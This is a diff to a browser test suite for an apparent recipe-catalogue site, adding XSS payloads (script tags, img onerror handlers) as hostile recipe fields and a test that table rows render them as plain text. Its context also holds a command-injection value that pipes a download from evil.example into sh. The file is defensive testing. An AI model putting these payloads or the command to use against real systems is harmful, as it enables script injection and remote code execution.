@@ -19,6 +19,7 @@ from typing import Any
 import pytest
 from conftest import SEED_ID, Project, copy_project
 
+from openrecipes import pages
 from openrecipes.reference import Reference
 
 from .conftest import Watch, project_served_at, serving, watched_tab
@@ -63,6 +64,11 @@ VISIBLE = (
 
 MARKDOWN_FIELDS = (("notes",), ("layout", "notes"), ("correctness", "reference"))
 TEXT_FIELDS = (("layout", "summary"), ("stack", "source"), ("correctness", "summary"))
+# Text that reaches the catalogue tables: the system (the provider column of a recipe without an
+# instance) and the framework (a filter). The home page holds only its first row, so the hostile
+# recipe's row is drawn by table.js from assets/catalogue-rows.json.
+SYSTEM = "<script>alert(8)</script><img src=x onerror=alert(9)>"
+FRAMEWORK = "<img src=x onerror=alert(10)> 1.0"
 
 
 def _set(data: dict[str, Any], path: tuple[str, ...], value: Any) -> None:
@@ -91,8 +97,13 @@ def hostile_site(
         data["author"]["name"] = "<img src=x onerror=alert(6)>"
         data["env"] = {"HOSTILE": '$(curl -s https://evil.example/x | sh) "`x`"'}
         data["run"] = ALL + "\n" + FENCE_IN_CODE_SAMPLE.replace("    ", "")
+        data["gpu"] = {**data["gpu"], "instance": None, "system": SYSTEM}
+        data["result"]["usd_per_million_tokens"] = None
+        data["stack"]["framework"] = FRAMEWORK
         project.add(HOSTILE_ID, data)
-        result = project.build()
+        with pytest.MonkeyPatch.context() as patch:
+            patch.setattr(pages, "HOME_ROWS", 1)
+            result = project.build()
         assert result.ok, result.log
         shutil.rmtree(site_dir)
         shutil.move(result.site, site_dir)
@@ -131,6 +142,20 @@ def test_no_page_that_shows_the_recipe_runs_or_loads_anything_from_it(tab: Any, 
         )
         assert handlers == []
         assert tab.locator("article a[href^='javascript']").count() == 0
+
+
+def test_a_table_row_drawn_from_the_data_shows_its_text_as_text(tab: Any, hostile_site: str) -> None:
+    tab.goto(hostile_site)
+    row = f"[data-or-catalogue] tr[data-recipe='{HOSTILE_ID}']"
+    tab.wait_for_selector(row)
+    assert tab.text_content(f"{row} td[data-key='provider']") == SYSTEM
+    assert tab.get_attribute(row, "data-framework") == "<img"
+    assert tab.locator("select[data-or-filter='framework'] option[value='<img']").count() == 1
+    assert tab.locator("article script, article img, article iframe").count() == 0
+    handlers = tab.eval_on_selector_all(
+        "article *", "els => els.flatMap(e => e.getAttributeNames().filter(n => n.startsWith('on')))"
+    )
+    assert handlers == []
 
 
 def test_the_recipe_text_is_shown_as_text(tab: Any, hostile_site: str) -> None:
